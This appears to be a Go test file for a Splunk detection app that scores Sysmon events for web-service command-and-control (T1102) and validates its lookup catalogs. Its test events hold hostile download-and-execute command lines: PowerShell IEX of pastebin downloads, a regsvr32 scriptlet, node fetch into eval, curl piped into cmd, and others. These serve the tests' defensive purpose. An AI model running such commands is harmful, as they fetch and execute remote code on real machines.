			ev: Event{EventCode: b("1"), Image: b(`C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe`),
				CommandLine: b(`Code.exe -e "require('https').get('https://raw.githubusercontent.com/e/x/main/a.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"`)},
			check: func(t *testing.T, r *Result) {
				require.False(t, r.Allowlisted)
				require.True(t, r.Pass, "it fetches raw content itself")
				require.Contains(t, strs(r.Reasons), "not allowlisted by t1102_allowlist.csv:4: it runs what it fetches")
			},
		},
		{
			name: "artifact context ignores the query", reason: "?x=/releases/download/ says nothing about where the file is",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`), CommandLine: b(`curl -o a.ps1 "https://github.com/evil/r/raw/main/a.ps1?x=/releases/download/"`)},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.ContextKind); require.True(t, r.RawContent) },
		},
		{
			name: "allowlist path anchored", reason: "a folder named Git under Public is not Git for Windows",
			ev:    Event{EventCode: b("22"), Image: b(`C:\Users\Public\Git\cmd\git.exe`), QueryName: b("github.com")},
			check: func(t *testing.T, r *Result) { require.False(t, r.Allowlisted); require.NotEmpty(t, r.UnexpectedPath) },
		},
		{
			name: "sha256sum is not sh", reason: "a checksum after a download is not an interpreter",
			ev:    Event{EventCode: b("1"), Image: b(`/usr/bin/bash`), CommandLine: b(`bash -c "curl -sL https://github.com/cli/cli/releases/download/v2.62.0/gh_2.62.0_checksums.txt | sha256sum -c"`)},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute) },
		},
		{
			name: "iex in a url", reason: "a file named iex in a URL is not Invoke-Expression",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`), CommandLine: b(`curl -LO https://github.com/elixir-lang/elixir/raw/main/bin/iex`)},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute) },
		},
		{
			name: "tmp in a url", reason: "a folder named tmp in a URL's path is not /tmp/",
			ev:    Event{EventCode: b("1"), Image: b(`/usr/bin/curl`), CommandLine: b(`curl -O https://github.com/a/tmp/releases/download/v1/x.zip`)},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.TempPlace) },
		},
		{
			name: "tmp as an argument", reason: "curl -o /tmp/x writes to /tmp/",
			ev:    Event{EventCode: b("1"), Image: b(`/usr/bin/curl`), CommandLine: b(`curl -so /tmp/x https://pastebin.com/raw/y`)},
			check: func(t *testing.T, r *Result) { require.Equal(t, "/tmp/", r.TempPlace) },
		},
		{
			name: "eval inside a word", reason: "retrieval is not eval",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\python.exe`), CommandLine: b(`python.exe retrieval eval.py --src https://github.com/a/b --lib urllib`)},
			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute) },
		},
		{
			name: "multivalue host", reason: "a multivalue field arrives as values joined by newlines; each is a host",
			ev:    Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`), CommandLine: b("curl https://example.org/a\nhttps://pastebin.com/raw/b")},
			check: func(t *testing.T, r *Result) { require.Equal(t, "pastebin", r.Category) },
		},
	}
	// Forms of download and execute, each found.
	for _, tt := range []struct{ name, image, cmd, reason string }{
		{"quoted scriptlet url", `C:\Windows\System32\regsvr32.exe`, `regsvr32 /s /n /u /i:"https://raw.githubusercontent.com/x/y.sct" scrobj.dll`, "the URL in quotes"},
		{"scriptblock create", `C:\x\powershell.exe`, `powershell -c "& ([scriptblock]::Create((irm https://github.com/e/r/raw/main/a.ps1)))"`, "a script block from a download"},
		{"backtick escape", `C:\x\powershell.exe`, "powershell -c \"i`ex (iwr https://github.com/e/r/raw/main/a.ps1)\"", "PowerShell's escape character"},
		{"then eval", `C:\x\node.exe`, `node -e "fetch('https://github.com/e/r/raw/main/x.js').then(r=>r.text()).then(eval)"`, "a promise chain into eval"},
		{"pipe into cmd", `C:\x\cmd.exe`, `cmd /c curl -s https://pastebin.com/raw/x | cmd`, "cmd as the interpreter"},
		{"msiexec url", `C:\Windows\System32\msiexec.exe`, `msiexec /q /i https://github.com/e/r/releases/download/v1/a.msi`, "msiexec installs from a URL"},
	} {
		tests = append(tests, struct {
			name   string
			reason string
			ev     Event
			check  func(t *testing.T, r *Result)
		}{name: "finds " + tt.name, reason: tt.reason, ev: Event{EventCode: b("1"), Image: b(tt.image), CommandLine: b(tt.cmd)},
			check: func(t *testing.T, r *Result) { require.NotEmpty(t, r.DownloadExecute, "%+v", strs(r.Reasons)) }})
	}
	s := d.NewScorer()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			r := s.Score(&tt.ev)
			tt.check(t, r)
			require.LessOrEqual(t, r.RiskScore, 100)
			requireExplained(t, r)
		})
	}
}

// requireExplained checks that every point of risk_score has a reason:
// the points the reasons name add up to it (within 0–100; 0 when
// allowlisted), and no weight is added without one.
func requireExplained(t *testing.T, r *Result) {
	t.Helper()
	sum := 0
	for _, rs := range r.Reasons {
		if m := pointsOf.FindStringSubmatch(string(rs)); m != nil {
			n, err := strconv.Atoi(m[1])
			require.NoError(t, err)
			sum += n
		}
	}
	want := max(0, min(sum, 100))
	if r.Allowlisted {
		want = 0
	}
	require.Equal(t, want, r.RiskScore, "risk_score is the sum of its reasons' points: %q", strs(r.Reasons))
}

var pointsOf = regexp.MustCompile(` \(([+-][0-9]+)\)$`)

func b(s string) []byte { return []byte(s) }

// strs are the reasons without their points (" (+n)"), which
// TestReasonsExplainEveryPoint checks.
func strs(bs [][]byte) []string {
	var out []string
	for _, b := range bs {
		out = append(out, reasonPoints.ReplaceAllString(string(b), ""))
	}
	return out
}

var reasonPoints = regexp.MustCompile(` \([+-][0-9]+\)$`)

// confOf is the default t1102.conf of an app folder.
func confOf(t *testing.T, dir string) string {
	b, err := os.ReadFile(filepath.Join(dir, "default", ConfFile))
	require.NoError(t, err)
	return string(b)
}

func TestCatalogErrors(t *testing.T) {
	write := func(t *testing.T, files map[string]string) string {
		dir := t.TempDir()
		base := map[string]string{
			"lookups/" + WebServicesFile: "domain,category,tags,raw_paths,command_paths\ngithub.com,github,,/raw/,\n",
			"lookups/" + ProcessesFile:   "name,class,original_file_name,description\npowershell.exe,script_engine,powershell.exe,windows powershell\n",
			"lookups/" + ParentsFile:     "name,class\nsvchost.exe,service\n",
			"lookups/" + AllowlistFile:   "host,user,process,path,pe_name,domain\n",
			"lookups/" + ContextFile:     "kind,process,path,parent_path,command_line,url,user\nit_agent,ruby.exe,C:\\Puppet\\*\\ruby.exe,,,,\n",
			"lookups/" + NotEvidenceFile: "domain\n1e100.net\n",
			"lookups/" + ClientsFile:     "provider,company,process,path\nGithub,\"GitHub, Inc.\",gh.exe,C:\\Program Files\\GitHub CLI\\gh.exe\n",
			"default/" + ConfFile: "[risk]\nservice=1\nraw_content=1\ncommand_endpoint=1\nrenamed_binary=1\nencoded=1\noffice_parent=1\nservice_spawn=1\n" +
				"command_line_url=1\ntag_cc=1\ndownload_execute=1\nhidden_window=1\ntemp_file=1\nunexpected_path=1\npolling=1\nnew_pair=1\nrare_pair=1\n" +
				"[process_class]\nscript_engine=1\n[context]\nit_agent=1\nown_client=1\ncommon_pair=1\nestablished_pair=1\n" +
				"[alert]\nrisk_threshold=40\n[polling]\nthreshold=0.65\nmin_requests=4\nmemory=86400\n" +
				"[fleet]\nnew_days=7\nold_days=30\nrare_prevalence=0.02\nrare_hosts=1\ncommon_prevalence=0.5\nkeep_days=90\n",
		}
		for k, v := range files {
			base[k] = v
		}
		for name, content := range base {
			p := filepath.Join(dir, name)
			require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
			require.NoError(t, os.WriteFile(p, []byte(content), 0o644))
		}
		return dir
	}
	tests := []struct {
		name   string
		reason string
		files  map[string]string
		says   string
	}{
		{"ok", "the minimal catalog loads", nil, ""},
		{"missing column", "header without category", map[string]string{"lookups/" + WebServicesFile: "domain\ngithub.com\n"}, `no column "category"`},
		{"services without raw_paths", "item 10: no URL would serve raw content, silently", map[string]string{"lookups/" + WebServicesFile: "domain,category,tags,command_paths\ngithub.com,github,,\n"}, WebServicesFile + `:1: bad catalog: header has no column "raw_paths"`},
		{"services without command_paths", "item 10: no command endpoint, silently", map[string]string{"lookups/" + WebServicesFile: "domain,category,tags,raw_paths\ngithub.com,github,,\n"}, `no column "command_paths"`},
		{"services header only", "item 10: no service, no detection at all", map[string]string{"lookups/" + WebServicesFile: "domain,category,tags,raw_paths,command_paths\n"}, WebServicesFile + ": bad catalog: no usable row"},
		{"processes without original_file_name", "item 10: no renamed binary, silently", map[string]string{"lookups/" + ProcessesFile: "name,class,description\npowershell.exe,script_engine,windows powershell\n"}, ProcessesFile + `:1: bad catalog: header has no column "original_file_name"`},
		{"processes header only", "item 10: no suspicious process at all", map[string]string{"lookups/" + ProcessesFile: "name,class,original_file_name,description\n"}, ProcessesFile + ": bad catalog: no usable row"},
		{"empty allowlist", "an empty allowlist, context or not-evidence lookup only takes nothing away", map[string]string{"lookups/" + AllowlistFile: "host,user,process,path,pe_name,domain\n", "lookups/" + ContextFile: "kind,process,path,parent_path,command_line,url,user\n", "lookups/" + NotEvidenceFile: "domain\n"}, ""},
		{"bad parent class", "office or service only", map[string]string{"lookups/" + ParentsFile: "name,class\nx.exe,weird\n"}, ParentsFile + ":2:"},
		{"old allowlist header", "a user's copy without the path columns is refused, not read with every rule widened", map[string]string{"lookups/" + AllowlistFile: "host,user,process,domain\n"}, `no column "path"`},
		{"context kind without weight", "a kind with no [context] weight would take nothing off", map[string]string{"lookups/" + ContextFile: "kind,process,path,parent_path,command_line,url,user\nvcs,git.exe,C:\\Git\\*,,,,\n"}, `"vcs", which has no weight in [context]`},
		{"class without weight", "a process class with no [process_class] weight would weigh nothing", map[string]string{"lookups/" + ProcessesFile: "name,class,original_file_name,description\nx.exe,lolbin,,\n"}, `"lolbin", which has no weight in [process_class]`},
		{"class weight out of range", "0 to 100 in every stanza", map[string]string{"local/" + ConfFile: "[process_class]\nscript_engine = -5\n"}, "[process_class] script_engine"},
		{"weight out of range", "0 to 100", map[string]string{"local/" + ConfFile: "[risk]\n\nencoded = 500\n"}, "local/" + ConfFile + ":3:"},
		{"missing weight", "defaults are all in the default file", map[string]string{"default/" + ConfFile: "[risk]\nservice=1\n"}, "has no raw_content"},
		{"path in process", "a basename, not a path", map[string]string{"lookups/" + ProcessesFile: "name,class,original_file_name,description\nC:\\x\\a.exe,lolbin,,\n"}, ProcessesFile + ":2:"},
		{"conf syntax", "a line t1102.conf cannot be read as is refused with its file and line (splunkapp.Parse)", map[string]string{"local/" + ConfFile: "[risk]\nservice = 2\n[polling\n"}, "local/" + ConfFile + `:3: bad catalog: syntax error: stanza "[polling" not closed`},
		{"local lookup without a column", "the user's own allowlist is checked as the shipped one is", map[string]string{"lookups/" + AllowlistLocalFile: "host,user,process,domain\n"}, AllowlistLocalFile + `:1: bad catalog: header has no column "path"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			_, err := LoadCatalog(write(t, tt.files), WebServicesFile)
			if tt.says == "" {
				require.NoError(t, err)
				return
			}
			require.ErrorIs(t, err, ErrCatalog)
			require.Contains(t, filepath.ToSlash(err.Error()), tt.says)
		})
	}
	// A bad row is left out, named by its line and its real cause, and the
	// rest of the file is used (issue 16 item 12: one bad row used to stop
	// every search, and a row short one column was reported as a domain
	// error).
	svcHeader := "domain,category,tags,raw_paths,command_paths\n"
	allowHeader := "host,user,process,path,pe_name,domain\n"
	for _, tt := range []struct {
		name, reason string
		files        map[string]string
		warns        string // the only warning, file:line onwards
		services     int    // services loaded
		allow        int    // allowlist rules loaded
	}{
		{"short row", "a comma missing shifts every value: say so, not that the category is a domain", map[string]string{"lookups/" + WebServicesFile: svcHeader + "github,,/raw/,\ngitlab.com,gitlab,,,\n"},
			WebServicesFile + ":2: row skipped: 4 fields, the header has 5", 1, 0},
		{"bad domain", "not a domain", map[string]string{"lookups/" + WebServicesFile: svcHeader + "github.com,github,,,\nnot a domain,x,,,\n"},
			WebServicesFile + `:3: row skipped: "not a domain" is not a domain name`, 1, 0},
		{"bad quoting", "a CSV error is one row's, the reader goes on", map[string]string{"lookups/" + WebServicesFile: svcHeader + "github.com,github,,\"/raw/\"x,\ngitlab.com,gitlab,,,\n"},
			WebServicesFile + `:2: row skipped: extraneous or missing " in quoted-field`, 1, 0},
		{"allow everything", "an empty rule", map[string]string{"lookups/" + AllowlistFile: allowHeader + ",,,,,\n,,git.exe,,,github.com\n"},
			AllowlistFile + ":2: row skipped: a rule without a domain would allow every service", 1, 1},
		{"allow every service", "a rule without a domain allowed every service a program reached", map[string]string{"lookups/" + AllowlistFile: allowHeader + ",,msmpeng.exe,,,\n"},
			AllowlistFile + ":2: row skipped: a rule without a domain would allow every service", 1, 0},
		{"allow every process", "a domain alone allows whoever reaches it", map[string]string{"lookups/" + AllowlistFile: allowHeader + ",,,,,github.com\n"},
			AllowlistFile + ":2: row skipped: a rule with only a domain would allow every process", 1, 0},
		{"allow path of only stars", "a pattern that matches everything is no path condition", map[string]string{"lookups/" + AllowlistFile: allowHeader + ",,git.exe,**,,github.com\n"},
			AllowlistFile + ":2: row skipped: path", 1, 0},
		{"context by name only", "a file name is anybody's to take", map[string]string{"lookups/" + ContextFile: "kind,process,path,parent_path,command_line,url,user\nit_agent,ruby.exe,,,,,\n"},
			ContextFile + ":2: row skipped: a rule needs a path", 1, 0},
	} {
		t.Run("skipped/"+tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			c, err := LoadCatalog(write(t, tt.files), WebServicesFile)
			require.NoError(t, err)
			require.Len(t, c.Warnings, 1)
			require.ErrorIs(t, c.Warnings[0], ErrSkipped)
			require.NotErrorIs(t, c.Warnings[0], ErrCatalog, "a warning, not a refusal")
			require.Contains(t, filepath.ToSlash(c.Warnings[0].Error()), tt.warns)
			require.Len(t, c.Services, tt.services, "the other rows are used")
			require.Len(t, c.Allow, tt.allow, "the other rows are used")
		})
	}
	// t1102.conf: a setting this app does not know is left out with a
	// warning naming its file and line (issue 16 item 11: only [risk]
	// refused unknown keys, the rest was silent), and a UTF-8 BOM is read
	// as in every lookup.
	for _, tt := range []struct {
		name, reason string
		files        map[string]string
		warns        string // the only warning, file:line onwards; empty: none
		weights      func(w Weights) bool
	}{
		{"misspelt stanza", "[rsik] set nothing, silently", map[string]string{"local/" + ConfFile: "\n[rsik]\nencoded = 50\n"},
			"local/" + ConfFile + ":2: setting skipped: unknown stanza [rsik], its keys are not used: t1102.conf has [risk], [process_class], [context]",
			func(w Weights) bool { return w.Encoded == 1 }},
		{"unknown key in risk", "a typo in [risk] is seen, and no longer stops every search", map[string]string{"local/" + ConfFile: "[risk]\nencode = 5\n"},
			"local/" + ConfFile + `:2: setting skipped: [risk] has no key "encode"`, func(w Weights) bool { return w.Encoded == 1 }},
		{"unknown class", "a misspelt class in local/ changed nothing, silently", map[string]string{"local/" + ConfFile: "[process_class]\nscirpt_engine = 50\n"},
			"local/" + ConfFile + `:2: setting skipped: [process_class] has no key "scirpt_engine": want a class of t1102_processes.csv or set in default/t1102.conf`,
			func(w Weights) bool { _, ok := w.Class["scirpt_engine"]; return !ok && w.Class["script_engine"] == 1 }},
		{"unknown context kind", "the same in [context]", map[string]string{"local/" + ConfFile: "[context]\nit-agent = 10\n"},
			"local/" + ConfFile + `:2: setting skipped: [context] has no key "it-agent"`, func(w Weights) bool { return w.Context["it_agent"] == 1 }},
		{"key outside a stanza", "a key before any stanza set nothing, silently", map[string]string{"local/" + ConfFile: "encoded = 50\n[risk]\nservice = 2\n"},
			"local/" + ConfFile + ":1: setting skipped: encoded is outside any stanza: put it under one of [risk], [process_class], [context]",
			func(w Weights) bool { return w.Encoded == 1 && w.Service == 2 }},
		{"new class in local", "a class local/ adds for rows of the lookup is known", map[string]string{"local/" + ConfFile: "[process_class]\nlolbin = 30\n",
			"lookups/" + ProcessesFile: "name,class,original_file_name,description\npowershell.exe,script_engine,,\ncertutil.exe,lolbin,,\n"},
			"", func(w Weights) bool { return w.Class["lolbin"] == 30 }},
		{"bom in default", "Splunk reads a conf saved with a BOM: so does this app, as it did lookups", map[string]string{"default/" + ConfFile: "\ufeff" + confOf(t, write(t, nil))},
			"", func(w Weights) bool { return w.Service == 1 }},
		{"bom in local", "the same rule for every file", map[string]string{"local/" + ConfFile: "\ufeff[risk]\nservice = 7\n"},
			"", func(w Weights) bool { return w.Service == 7 }},
		{"bom in a lookup", "the same rule for every file", map[string]string{"lookups/" + ParentsFile: "\ufeffname,class\nsvchost.exe,service\n"},
			"", func(w Weights) bool { return true }},
		{"key set twice", "the last line of a key set twice is the one Splunk reads", map[string]string{"local/" + ConfFile: "[risk]\nservice = 7\nservice = 8\n"},
			"", func(w Weights) bool { return w.Service == 8 }},
		{"stanza reopened", "a repeated header continues the stanza, as Splunk merges it", map[string]string{"local/" + ConfFile: "[risk]\nservice = 7\n[context]\nit_agent = 3\n[risk]\nencoded = 9\n"},
			"", func(w Weights) bool { return w.Service == 7 && w.Encoded == 9 && w.Context["it_agent"] == 3 }},
	} {
		t.Run("conf/"+tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			c, err := LoadCatalog(write(t, tt.files), WebServicesFile)
			require.NoError(t, err)
			if tt.warns == "" {
				require.Empty(t, c.Warnings)
			} else {
				require.Len(t, c.Warnings, 1)
				require.ErrorIs(t, c.Warnings[0], ErrSkipped)
				require.Contains(t, filepath.ToSlash(c.Warnings[0].Error()), tt.warns)
			}
			require.True(t, tt.weights(c.Weights), "%+v", c.Weights)
		})
	}
	// The user's own lookups (README, "Tuning that survives upgrades"):
	// read first when they exist, with the shipped file's columns and
	// checks, each rule naming its own file.
	ctxHeader := "kind,process,path,parent_path,command_line,url,user\n"
	for _, tt := range []struct {
		name, reason string
		files        map[string]string
		warns        string // the only warning; empty: none
		check        func(t *testing.T, c *Catalog)
	}{
		{"none", "no file of the user's: the shipped catalog alone, nothing said", nil, "", func(t *testing.T, c *Catalog) {
			require.Empty(t, c.Local)
			require.Len(t, c.Context, 1)
		}},
		{"allowlist", "the user's rules join the shipped ones, named by their own file and line", map[string]string{
			"lookups/" + AllowlistFile:      allowHeader + ",,git.exe,C:\\Git\\*,,github.com\n",
			"lookups/" + AllowlistLocalFile: allowHeader + ",,tool.exe,C:\\Tools\\*,,github.com;gitlab.com\n"}, "", func(t *testing.T, c *Catalog) {
			require.Equal(t, []string{AllowlistLocalFile}, c.Local)
			require.Len(t, c.Allow, 2)
			require.Equal(t, AllowlistLocalFile+":2", c.Allow[0].Ref, "the user's first")
			require.Equal(t, AllowlistFile+":2", c.Allow[1].Ref)
		}},
		{"context first", "the first matching context rule decides: the user's", map[string]string{
			"lookups/" + ContextLocalFile: ctxHeader + "it_agent,ruby.exe,C:\\Opt\\*\\ruby.exe,,,,\n"}, "", func(t *testing.T, c *Catalog) {
			require.Equal(t, []string{ContextLocalFile}, c.Local)
			require.Len(t, c.Context, 2)
			require.Equal(t, ContextLocalFile+":2", c.Context[0].Ref)
		}},
		{"clients", "the services' own clients where this fleet installs them", map[string]string{
			"lookups/" + ClientsLocalFile: "provider,company,process,path\nGithub,\"GitHub, Inc.\",gh.exe,D:\\Apps\\gh.exe\n"}, "", func(t *testing.T, c *Catalog) {
			require.Equal(t, []string{ClientsLocalFile}, c.Local)
			require.Len(t, c.Clients, 2)
			require.Equal(t, ClientsLocalFile+":2", c.Clients[0].Ref)
		}},
		{"bad row", "a bad row of the user's is a warning naming the user's file and line; the rest is used", map[string]string{
			"lookups/" + AllowlistLocalFile: allowHeader + ",,,,,github.com\n,,tool.exe,,,github.com\n"},
			AllowlistLocalFile + ":2: row skipped: a rule with only a domain", func(t *testing.T, c *Catalog) {
				require.Len(t, c.Allow, 1)
				require.Equal(t, AllowlistLocalFile+":3", c.Allow[0].Ref)
			}},
		{"web services", "the user's services come after the shipped ones: the last row for a domain is the detector's", map[string]string{
			"lookups/" + WebServicesLocalFile: svcHeader + "newpaste.io,pastebin,,,\ngithub.com,github,C&C,/raw/,\n"}, "", func(t *testing.T, c *Catalog) {
			require.Equal(t, []string{WebServicesLocalFile}, c.Local)
			require.Len(t, c.Services, 3)
			require.Equal(t, "github.com", c.Services[2].Domain)
			require.Equal(t, []string{"C&C"}, c.Services[2].Tags)
			s, _, ok := NewDetector(c).services.Match([]byte("raw.github.com"))
			require.True(t, ok)
			require.Equal(t, []string{"C&C"}, s.Tags, "the user's row for github.com decides")
		}},
		{"empty", "a header-only file of the user's is an ordinary empty list", map[string]string{"lookups/" + ContextLocalFile: ctxHeader}, "", func(t *testing.T, c *Catalog) {
			require.Equal(t, []string{ContextLocalFile}, c.Local)
			require.Len(t, c.Context, 1)
		}},
	} {
		t.Run("local/"+tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			c, err := LoadCatalog(write(t, tt.files), WebServicesFile)
			require.NoError(t, err)
			if tt.warns == "" {
				require.Empty(t, c.Warnings)
			} else {
				require.Len(t, c.Warnings, 1)
				require.Contains(t, filepath.ToSlash(c.Warnings[0].Error()), "lookups/"+tt.warns)
			}
			tt.check(t, c)
		})
	}
	t.Run("local/unreadable", func(t *testing.T) {
		// Not a file: refused, rather than read as if the user had no rules.
		dir := write(t, nil)
		require.NoError(t, os.Mkdir(filepath.Join(dir, "lookups", AllowlistLocalFile), 0o755))
		_, err := LoadCatalog(dir, WebServicesFile)
		require.ErrorIs(t, err, ErrCatalog)
		require.Contains(t, filepath.ToSlash(err.Error()), "lookups/"+AllowlistLocalFile)
	})
	t.Run("no usable row", func(t *testing.T) {
		// Every row of a lookup that needs rows was bad: refused, with the
		// first row's cause.
		_, err := LoadCatalog(write(t, map[string]string{"lookups/" + WebServicesFile: svcHeader + "github,,/raw/,\n"}), WebServicesFile)
		require.ErrorIs(t, err, ErrCatalog)
		require.Contains(t, filepath.ToSlash(err.Error()), WebServicesFile+":2: bad catalog: no usable row, every row skipped; the first: row skipped: 4 fields")
	})
	t.Run("no app folder", func(t *testing.T) {
		// The binary did not find its app: the current directory is not
		// searched instead.
		_, err := LoadCatalog("", WebServicesFile)
		require.ErrorIs(t, err, ErrCatalog)
		require.ErrorContains(t, err, "app folder")
	})
}

// TestShippedCatalogs: the catalogs the app ships (app/lookups and
// default/t1102.conf, with either web-service lookup) load whole, keep the
// original detection's categories, and judge as the shipped app must: the
// original's false positives and shared infrastructure name no service,
// the Atomic tests' requests are judged, the common programs the
// allowlist and the context lookup name get their rule, and a copy of one
// outside its place does not. The unit tests use testdata/app instead.
func TestShippedCatalogs(t *testing.T) {
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	tests := []struct {
		name, reason string
		ev           Event
		check        func(t *testing.T, r *Result)
	}{
		{"raw GitHub", "the dead drop of the Atomic tests", Event{EventCode: b("22"), Image: b(ps), QueryName: b("raw.githubusercontent.com")},
			func(t *testing.T, r *Result) {
				require.Equal(t, "github", r.Category)
				require.True(t, r.RawContent)
				require.True(t, r.Pass)
			}},
		{"iex of a paste", "the Atomic pastebin test alerts", Event{EventCode: b("1"), Image: b(ps),
			CommandLine: b(`powershell -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/x')"`)},
			func(t *testing.T, r *Result) {
				require.Equal(t, "pastebin", r.Category)
				require.True(t, r.CommandEndpoint)
				require.NotEmpty(t, r.DownloadExecute)
				require.True(t, r.Pass)
			}},
		{"telegram getUpdates", "a bot's getUpdates hands out commands", Event{EventCode: b("1"), Image: b(`C:\Windows\System32\curl.exe`),
			CommandLine: b(`curl -s https://api.telegram.org/bot1:AA/getUpdates`)},
			func(t *testing.T, r *Result) {
				require.Equal(t, "telegram", r.Category)
				require.True(t, r.CommandEndpoint)
			}},
		{"dropbox", "the original's x\\.com matched dropbox.com", Event{EventCode: b("3"), Image: b(ps), DestinationHostname: b("www.dropbox.com")},
			func(t *testing.T, r *Result) { require.NotEqual(t, "twitter", r.Category) }},
		{"meraki", "the original's t\\.me matched smart.meraki.com", Event{EventCode: b("3"), Image: b(ps), DestinationHostname: b("smart.meraki.com")},
			func(t *testing.T, r *Result) { require.NotEqual(t, "telegram", r.Category) }},
		{"google reverse dns", "a 1e100.net name says Google, not which service", Event{EventCode: b("3"), Image: b(ps), DestinationHostname: b("lhr25s34-in-f14.1e100.net")},
			func(t *testing.T, r *Result) { require.Empty(t, r.Category) }},
		{"gcp reverse dns", "a Google Cloud customer's machine, though LOTS lists googleusercontent.com", Event{EventCode: b("3"), Image: b(ps), DestinationHostname: b("34.1.2.3.bc.googleusercontent.com")},
			func(t *testing.T, r *Result) { require.Empty(t, r.Category) }},
		{"cdn", "a shared CDN, though LOTS lists cloudfront.net", Event{EventCode: b("22"), Image: b(ps), QueryName: b("d1a2b3c4.cloudfront.net")},
			func(t *testing.T, r *Result) { require.Empty(t, r.Category) }},
		{"git for windows", "git over HTTPS to GitHub is ordinary work", Event{EventCode: b("3"), Image: b(`C:\Program Files\Git\mingw64\bin\git-remote-https.exe`), DestinationHostname: b("github.com")},
			func(t *testing.T, r *Result) { require.True(t, r.Allowlisted); require.False(t, r.Pass) }},
		{"defender", "Defender's URL reputation lookups", Event{EventCode: b("22"), Image: b(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2009.7-0\MsMpEng.exe`), QueryName: b("raw.githubusercontent.com")},
			func(t *testing.T, r *Result) { require.True(t, r.Allowlisted); require.False(t, r.Pass) }},
		{"defender's name elsewhere", "a MsMpEng.exe in C:\\Users\\Public is not Defender", Event{EventCode: b("1"), Image: b(`C:\Users\Public\MsMpEng.exe`),
			CommandLine: b(`MsMpEng.exe -c "iex(iwr https://pastebin.com/raw/abc)"`)},
			func(t *testing.T, r *Result) {
				require.False(t, r.Allowlisted)
				require.True(t, strings.HasPrefix(r.UnexpectedPath, AllowlistFile+":"), r.UnexpectedPath)
				require.True(t, r.Pass)
			}},
		{"npm", "npm resolving a GitHub dependency is package-manager context", Event{EventCode: b("22"), Image: b(`C:\Program Files\nodejs\node.exe`), QueryName: b("codeload.github.com"),
			CommandLine: b(`"C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install`)},
			func(t *testing.T, r *Result) {
				require.Equal(t, "package_manager", r.ContextKind)
				require.False(t, r.Pass)
			}},
		{"release asset", "a GitHub release download is an artifact", Event{EventCode: b("1"), Image: b(`C:\x\updater.exe`),
			CommandLine: b("updater.exe https://github.com/u/r/releases/download/v1/p.exe")},
			func(t *testing.T, r *Result) {
				require.Equal(t, "artifact_download", r.ContextKind)
				require.False(t, r.Pass)
			}},
	}
	var sizes []int
	for _, f := range []string{WebServicesFile, WebServicesLOTSFile} {
		t.Run(f, func(t *testing.T) {
			c, err := LoadCatalog(filepath.Join("..", ".."), f)
			require.NoError(t, err)
			require.Empty(t, c.Warnings, "the shipped catalog loads whole")
			sizes = append(sizes, len(c.Services))
			cats := map[string]bool{}
			for _, s := range c.Services {
				cats[s.Category] = true
			}
			for _, cat := range []string{"twitter", "github", "gitlab", "telegram", "pastebin", "discord", "google_services", "reddit", "other_webservice", "microsoft_personal"} {
				require.True(t, cats[cat], "%s keeps the original category %s", f, cat)
			}
			s := NewDetector(c).NewScorer()
			for _, tt := range tests {
				t.Run(tt.name, func(t *testing.T) {
					require.NotEmpty(t, tt.reason)
					r := s.Score(&tt.ev)
					tt.check(t, r)
					requireExplained(t, r)
				})
			}
		})
	}
	require.Len(t, sizes, 2)
	require.Greater(t, sizes[1], sizes[0], "the LOTS catalog is the larger one")
}

func BenchmarkScorer(b *testing.B) {
	d := shipped(b, WebServicesFile)
	s := d.NewScorer()
	ev := Event{EventCode: []byte("1"), Image: []byte(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`),
		CommandLine: []byte(`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/x/y/main/z.ps1')"`),
		ParentImage: []byte(`C:\Windows\System32\svchost.exe`)}
	b.ReportAllocs()
	for b.Loop() {
		s.Score(&ev)
	}
}

func TestGlob(t *testing.T) {
	tests := []struct {
		name, pattern, value string
		want                 bool
		reason               string
	}{
		{"exact", `C:\Program Files\Windows Defender\MsMpEng.exe`, `c:\program files\windows defender\msmpeng.exe`, true, "a path without '*' is exact, ASCII case ignored"},
		{"exact is whole", `C:\Windows\x.exe`, `C:\Windows\x.exe.bak`, false, "the whole value must match"},
		{"folder left open", `C:\Program Files\Puppet Labs\Puppet\*\ruby.exe`, `C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`, true, "'*' crosses separators"},
		{"prefix is anchored", `C:\Program Files\Puppet Labs\Puppet\*\ruby.exe`, `C:\Users\Public\C:\Program Files\Puppet Labs\Puppet\x\ruby.exe`, false, "the pattern starts at the start"},
		{"contains", `*\npm-cli.js*`, `"C:\nodejs\node.exe" "C:\nodejs\node_modules\npm\bin\npm-cli.js" install`, true, "open both ends"},
		{"suffix overlap", `a*a`, `a`, false, "prefix and suffix cannot share a byte"},
		{"ordered parts", `*b*a*`, `ab`, false, "parts in order"},
		{"url", `github.com/*/releases/download/*`, `github.com/PowerShell/PowerShell/releases/download/v7.4.6/p.msi`, true, "a release asset"},
		{"url elsewhere", `github.com/*/releases/download/*`, `evil.example/github.com/x/releases/download/y`, false, "the host is the start of the value"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			g, err := CompileGlob(tt.pattern)
			require.NoError(t, err)
